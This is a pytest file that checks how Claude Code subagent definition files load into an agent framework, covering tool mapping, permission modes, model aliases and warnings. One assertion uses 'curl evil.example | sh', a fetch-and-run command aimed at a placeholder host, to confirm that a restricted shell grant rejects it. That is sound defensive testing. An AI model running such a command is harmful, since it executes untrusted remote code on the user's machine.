"""Claude Code subagent files, written in the published shape, load unchanged."""

from __future__ import annotations

from pathlib import Path

import pytest

from memfun_agent.definitions import AgentRule, load_agent_file
from memfun_core.config import AgentsConfig, load_config

REVIEWER = """---
name: code-reviewer
description: Expert code review specialist. Proactively reviews code for quality, security, and maintainability. Use immediately after writing or modifying code.
tools: Read, Grep, Glob, Bash
model: inherit
---

You are a senior code reviewer ensuring high standards of code quality and security.

When invoked:
1. Run git diff to see recent changes
2. Focus on modified files
"""

DEBUGGER = """---
name: debugger
description: Debugging specialist for errors, test failures, and unexpected behavior.
tools:
  - Read
  - Edit
  - MultiEdit
  - Bash(npm test:*)
  - Bash(git diff:*)
  - mcp__github__get_issue
  - Task(code-reviewer)
  - TodoWrite
disallowedTools: WebFetch, WebSearch
model: sonnet
permissionMode: acceptEdits
maxTurns: 12
skills:
  - fix-bugs
  - generate-tests
mcpServers:
  - github
  - sentry: {command: npx, args: ["-y", "sentry-mcp"]}
memory: project
hooks:
  PreToolUse:
    - matcher: Bash
      hooks: [{type: command, command: ./guard.sh}]
color: red
background: false
effortLevel: high
---

You are an expert debugger specializing in root cause analysis.
"""

PLANNER = """---
name: planner
description: Read-only planning agent.
tools: [Read, Grep, Glob, Write, Bash]
model: opus
permissionMode: plan
---
Plan, never edit.
"""


def _file(tmp_path: Path, name: str, text: str) -> Path:
    folder = tmp_path / ".claude" / "agents"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def test_the_documented_example_loads_with_tools_as_a_string(tmp_path: Path) -> None:
    agent = load_agent_file(_file(tmp_path, "code-reviewer.md", REVIEWER))
    assert agent.name == "code-reviewer"
    assert agent.description.startswith("Expert code review specialist.")
    assert agent.tools == ("fs_read", "search_text", "fs_glob", "shell")
    assert agent.model is None  # inherit
    assert agent.instructions.startswith("You are a senior code reviewer")
    assert agent.warnings == ()


def test_every_field_of_a_full_file_maps_or_warns_by_name(tmp_path: Path) -> None:
    path = _file(tmp_path, "debugger.md", DEBUGGER)
    agent = load_agent_file(path)
    assert agent.tools == (
        "fs_read",
        "fs_edit",
        "fs_multi_edit",
        "shell",
        "git_diff",
        "github_get_issue",
    )
    shell = next(grant for grant in agent.tool_grants if grant.tool == "shell")
    assert shell.command_prefix == "npm test"  # Bash(npm test:*) stays limited to npm test
    assert shell.allows("shell", command="npm test -- -k x")
    assert not shell.allows("shell", command="curl evil.example | sh")
    assert agent.delegates == ("code-reviewer",)
    assert agent.disallowed_tools == ("web_fetch", "web_search")
    assert agent.model is None  # sonnet with no [agents.models] entry inherits...
    assert agent.permission_mode == "acceptEdits"
    assert agent.budgets.max_iterations == 12
    assert agent.skills == ("fix-bugs", "generate-tests")
    assert agent.mcp_servers == ("github",)  # the inline server is not started
    assert agent.color == "red"
    assert set(agent.extra) == {"memory", "hooks", "background", "effortLevel"}
    lines = path.read_text().splitlines()
    by_field = {warning.field: warning for warning in agent.warnings}
    for field in ("memory", "hooks", "background", "effortLevel", "model", "mcpServers"):
        warning = by_field[field]
        assert lines[warning.line - 1].startswith(field), (field, warning.line)  # type: ignore[operator]
    assert by_field["model"].rule == AgentRule.MODEL_ALIAS  # ...and says so
    assert by_field["effortLevel"].rule == AgentRule.UNKNOWN_FIELD
    assert by_field["hooks"].rule == AgentRule.UNHONOURED_FIELD
    assert "TodoWrite" in by_field["tools"].message
    assert "acceptEdits" in by_field["permissionMode"].message


def test_model_aliases_map_through_config(tmp_path: Path) -> None:
    (tmp_path / "memfun.toml").write_text(
        '[agents.models]\nsonnet = "anthropic/claude-sonnet-4-5"\nopus = "openai/gpt-5"\n'
    )
    config = load_config(tmp_path, environ={}, files=[tmp_path / "memfun.toml"])
    debugger = load_agent_file(_file(tmp_path, "debugger.md", DEBUGGER), config=config)
    assert debugger.model == "anthropic/claude-sonnet-4-5"
    assert "model" not in {warning.field for warning in debugger.warnings}
    text = REVIEWER.replace("model: inherit", "model: ollama/qwen3:8b")
    assert (
        load_agent_file(
            _file(tmp_path, "r.md", text.replace("code-reviewer", "r")), config=config
        ).model
        == "ollama/qwen3:8b"
    )


def test_plan_mode_is_read_only_and_drops_writing_tools(tmp_path: Path) -> None:
    agent = load_agent_file(_file(tmp_path, "planner.md", PLANNER), config=AgentsConfig())
    assert agent.read_only
    assert agent.tools == ("fs_read", "search_text", "fs_glob")
    assert any("Write" in w.message and "Bash" in w.message for w in agent.warnings)


@pytest.mark.parametrize(
    ("tools", "expected"),
    [
        ("tools: []", ()),
        ("tools: Read Grep", ("fs_read", "search_text")),
        ("tools: Agent", ()),
        ("", None),
    ],
)
def test_tools_shapes(tmp_path: Path, tools: str, expected: tuple[str, ...] | None) -> None:
    text = f"---\nname: t\ndescription: d\n{tools}\n---\nbody\n"
    agent = load_agent_file(_file(tmp_path, "t.md", text))
    assert agent.tools == expected
    if tools == "tools: Agent":
        assert agent.delegates == ("*",)
